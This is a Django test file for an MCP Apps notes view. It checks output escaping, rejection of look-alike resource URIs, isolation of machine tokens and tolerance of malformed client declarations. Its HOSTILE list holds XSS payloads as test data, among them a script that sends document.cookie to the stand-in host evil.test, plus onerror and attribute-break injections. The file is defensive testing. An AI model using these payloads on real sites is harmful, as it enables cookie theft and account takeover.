"""MCP Apps views as attacks (the reference site's ``ui://project/notes_app``):

* data that tries to become markup: a note's title and body carrying ``</script>``, ``</style>``,
  ``<img onerror>`` and attribute breaks are text in the rendered page (the element structure of the
  page is the template's, whatever the data);
* look-alike URIs of the view answer exactly as an unknown resource;
* a client-credentials token (no user) gets the page without anyone's notes, not an error;
* a client declaring the extension with hostile settings gets the plain tools, never a 4xx/5xx.
"""

from __future__ import annotations

import json
import re

import pytest
from oauth2_provider.models import get_application_model

from project.models import Note

pytestmark = pytest.mark.django_db

V = "2026-07-28"
URI = "ui://project/notes_app"
EXT = "io.modelcontextprotocol/ui"


@pytest.fixture
def token(resource, user, public_app, mint_token):
    return mint_token(user, public_app, resource=resource.uri)


def rpc(client, token, method, params=None, caps=None):
    params = dict(params or {})
    params["_meta"] = {
        "io.modelcontextprotocol/protocolVersion": V,
        "io.modelcontextprotocol/clientCapabilities": caps or {},
        "io.modelcontextprotocol/clientInfo": {"name": "attacker", "version": "1"},
    }
    headers = {
        "Authorization": f"Bearer {token}",
        "Accept": "application/json, text/event-stream",
        "MCP-Protocol-Version": V,
        "Mcp-Method": method,
    }
    if method == "resources/read":
        headers["Mcp-Name"] = params["uri"]
    message = {"jsonrpc": "2.0", "id": 1, "method": method, "params": params}
    return client.post("/mcp", json.dumps(message), content_type="application/json", headers=headers)


HOSTILE = [
    '</script><script>fetch("https://evil.test/"+document.cookie)</script>',
    "</style><style>body{background:url(https://evil.test/css)}</style>",
    '"><img src=x onerror="fetch(\'https://evil.test/img\')">',
    "' onmouseover='alert(1)",
    "<!-- {% csrf_token %} {{ user.password }} -->",
]


def _tags(html: str, name: str) -> tuple[int, int]:
    return len(re.findall(rf"<{name}\b", html, re.IGNORECASE)), len(re.findall(rf"</{name}\s*>", html, re.IGNORECASE))


def test_hostile_note_text_stays_text(client, token, user):
    empty = rpc(client, token, "resources/read", {"uri": URI}).json()["result"]["contents"][0]["text"]
    for text in HOSTILE:
        Note.objects.create(owner=user, title=text, body=text)
    html = rpc(client, token, "resources/read", {"uri": URI}).json()["result"]["contents"][0]["text"]
    # the page's elements are the template's: the data added none
    for name in ("script", "style", "img", "iframe"):
        assert _tags(html, name) == _tags(empty, name), name
    assert "evil.test" in html  # shown, as text
    assert "&lt;/script&gt;&lt;script&gt;fetch(&quot;https://evil.test/&quot;+document.cookie)" in html
    assert "&#x27; onmouseover=&#x27;alert(1)" in html
    # template syntax in data is not evaluated
    assert "{% csrf_token %} {{ user.password }}" in html and user.password not in html


@pytest.mark.parametrize(
    "uri",
    [
        "ui://project/notes_app/",
        "ui://project/notes_app/../notes_app",
        "ui://PROJECT/notes_app",
        "ui://project/notes_app?x=1",
        "ui://project/notes_app#x",
        "ui://project/notes_ap",
        "ui://project/",
    ],
)
def test_look_alike_uris_are_unknown(client, token, uri):
    response = rpc(client, token, "resources/read", {"uri": uri})
    error = response.json()["error"]
    assert error["code"] == -32602 and error["message"] == f"Resource not found: {uri}"


def test_a_machine_token_sees_no_ones_notes(client, user, resource, mint_token):
    Note.objects.create(owner=user, title="Alice's plan")
    machine = get_application_model().objects.create(
        name="Machine",
        client_type="confidential",
        authorization_grant_type="client-credentials",
    )
    token = mint_token(None, machine, resource=resource.uri)
    contents = rpc(client, token, "resources/read", {"uri": URI}).json()["result"]["contents"][0]
    assert "<h1>Notes</h1>" in contents["text"] and "No notes yet." in contents["text"]
    assert "Alice" not in contents["text"]


@pytest.mark.parametrize(
    "settings_object",
    [
        {"mimeTypes": ["text/html;profile=mcp-app"] * 1000},
        {"mimeTypes": [{"$ref": "x"}, None, 1, "text/html;profile=mcp-app"]},
        {"mimeTypes": None},
        {"mimeTypes": {"text/html;profile=mcp-app": True}},
    ],
)
def test_hostile_declarations_never_fail_tools_list(client, token, settings_object):
    response = rpc(client, token, "tools/list", caps={"extensions": {EXT: settings_object}})
    assert response.status_code == 200
    tools = {tool["name"]: tool for tool in response.json()["result"]["tools"]}
    listed = "text/html;profile=mcp-app" in (settings_object.get("mimeTypes") or [])
    has_ui = "_meta" in tools["notes_app"]
    assert has_ui is (listed and isinstance(settings_object["mimeTypes"], list))
